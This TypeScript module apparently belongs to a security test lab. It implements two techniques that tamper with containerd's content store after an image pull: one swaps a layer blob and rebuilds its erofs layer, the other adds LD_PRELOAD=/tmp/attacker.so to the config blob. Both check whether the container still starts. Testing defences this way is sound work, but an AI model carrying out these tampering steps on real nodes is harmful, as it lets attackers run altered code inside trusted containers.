/**
 * Attacks on containerd's content store after a pull, before the container
 * starts. Root on the node rewrites blobs in
 * /var/lib/containerd/io.containerd.content.v1.content/blobs/sha256, keeping
 * their names (the digests they no longer hash to):
 *
 * - `content-store-layer-tamper`: the layer blob holding the target file is
 *   replaced by the attacker's rebuild of that layer, and the unpacked
 *   layer.erofs is rebuilt from it with the node's own recipe, so the two
 *   agree with each other and only the blob's digest tells them apart. On
 *   vanilla the container starts and reads the attacker's bytes.
 * - `content-store-config-tamper`: the config blob is rewritten (an added
 *   environment variable). containerd's CRI serves the config it cached at
 *   pull, so the effect is that a container starts from an image whose
 *   config no longer matches its digest.
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { buildImage } from '../../images/index.ts';
import { CONTENT_ROOT } from '../../gates/app-image.ts';
import { nodeMkfsErofsArgv } from '../../signer/index.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Workload } from '../../spec/schemas.ts';
import type { Technique } from '../technique.ts';
import { declaredContent, findLayerFileContaining, requirePath, samePayloadLength, withContent } from './common.ts';
import { readInContainer, tryStart } from './start.ts';

const blobFile = (digest: string) => join(CONTENT_ROOT, 'blobs', 'sha256', digest.slice(7));

/** Overwrites a file on the node as root would, clearing the immutable flag if set. */
async function overwrite(node: LabNodeHandle, file: string, source: string): Promise<void> {
  await node.exec.run(['chattr', '-i', file]);
  await node.run(['cp', source, file]);
}

async function pulled(node: LabNodeHandle, workload: Workload) {
  const built = await node.pushImage(workload.spec.image);
  const ref = node.imageRef(workload.spec.image.repository, workload.spec.image.tag);
  await node.cri.pullImage(ref);
  return { built, ref };
}

export const contentStoreLayerTamper: Technique = {
  name: 'content-store-layer-tamper',
  async run({ node, attack, workload, pods }) {
    const path = requirePath(attack);
    const { built, ref } = await pulled(node, workload);
    const original = declaredContent(workload, path);
    const replacement = samePayloadLength(attack, original);
    const forged = await buildImage(withContent(workload.spec.image, path, replacement.toString('utf8')), { busybox: async () => node.readFile('/bin/busybox') });
    const index = forged.manifest.layers.findIndex((l, i) => l.digest !== built.manifest.layers[i]?.digest);
    const genuine = built.manifest.layers[index]!;
    // The attacker's layer, under the genuine layer's name.
    const blobCopy = join(node.shareDir, 'forged-layer.blob');
    const tarCopy = join(node.shareDir, 'forged-layer.tar');
    await writeFile(blobCopy, forged.blobs.get(forged.manifest.layers[index]!.digest)!);
    await writeFile(tarCopy, forged.layerTars[index]!);
    await overwrite(node, blobFile(genuine.digest), blobCopy);
    // The unpacked layer rebuilt from the forged tar exactly as the differ would have (same UUID).
    const target = await findLayerFileContaining(node, original);
    await node.exec.run(['chattr', '-i', target.layerFile]);
    await node.run(nodeMkfsErofsArgv({ digest: genuine.digest, diffId: '' }, `${target.layerFile}.new`, tarCopy));
    await node.run(['mv', `${target.layerFile}.new`, target.layerFile]);
    await node.run(['sh', '-c', 'sync && echo 3 > /proc/sys/vm/drop_caches']);
    const evidence: Record<string, unknown> = { ref, layerIndex: index, blob: blobFile(genuine.digest), layerFile: target.layerFile, forgedBlobDigest: forged.manifest.layers[index]!.digest };
    const start = await tryStart(node, workload, pods);
    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    const seen = await readInContainer(node, start.pod, path);
    evidence.contentSeen = seen.content.toString();
    return seen.content.equals(replacement)
      ? { effect: true, reason: `the container started from the rewritten layer blob and reads the attacker's bytes from ${path}`, evidence }
      : { effect: false, reason: `the container started but reads the original ${path}`, evidence };
  },
};

export const contentStoreConfigTamper: Technique = {
  name: 'content-store-config-tamper',
  async run({ node, workload, pods }) {
    const { built, ref } = await pulled(node, workload);
    const digest = built.manifest.config.digest;
    const config = JSON.parse(built.blobs.get(digest)!.toString()) as { config?: { Env?: string[] } };
    config.config = { ...config.config, Env: [...(config.config?.Env ?? []), 'LD_PRELOAD=/tmp/attacker.so'] };
    const copy = join(node.shareDir, 'forged-config.json');
    await writeFile(copy, JSON.stringify(config));
    await overwrite(node, blobFile(digest), copy);
    const evidence: Record<string, unknown> = { ref, configBlob: blobFile(digest), change: 'added LD_PRELOAD=/tmp/attacker.so to config.Env' };
    const start = await tryStart(node, workload, pods);
    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    return { effect: true, reason: `the container started although its image's config blob ${digest} no longer hashes to its digest`, evidence };
  },
};
